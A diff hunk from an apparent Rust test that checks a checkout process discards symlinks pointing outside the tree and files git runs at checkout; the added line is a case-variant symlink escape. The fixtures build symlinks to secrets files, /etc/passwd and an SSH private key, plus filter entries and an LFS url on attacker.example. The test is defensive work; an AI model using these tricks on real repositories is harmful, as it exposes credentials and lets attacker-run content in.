@@ -898,7 +898,7 @@ async fn links_out_and_files_git_runs_at_checkout_are_never_kept() {
     let write = "ln -s ../config/production-secrets.toml src/leak; ln -s ../config src/conf; \
          ln -s . here; ln -s /etc/passwd abs; ln -s ../../elsewhere/secret src/up; \
          ln -s 'C:/Windows/win.ini' win; ln -s .git/config gitconf; ln -s ../.switchboard src/pol; \
-         mkdir -p a/b && ln -s .. a/b/up && ln -s up/../config/production-secrets.toml a/b/leak && ln -s up/../../../.ssh/id_rsa a/b/key; \
+         mkdir -p a/b && ln -s .. a/b/up && ln -s up/../config/production-secrets.toml a/b/leak && ln -s up/../../../.ssh/id_rsa a/b/key && ln -s UP/../config/production-secrets.toml a/b/mac; \
          ln -s lib.rs src/ok; printf '* filter=lfs diff=lfs merge=lfs\\n' > .gitattributes; \
          mkdir -p sub && printf '*.rs filter=evil\\n' > sub/.gitattributes; \
          printf '[lfs]\\n\\turl = https://attacker.example/\\n' > .lfsconfig; \
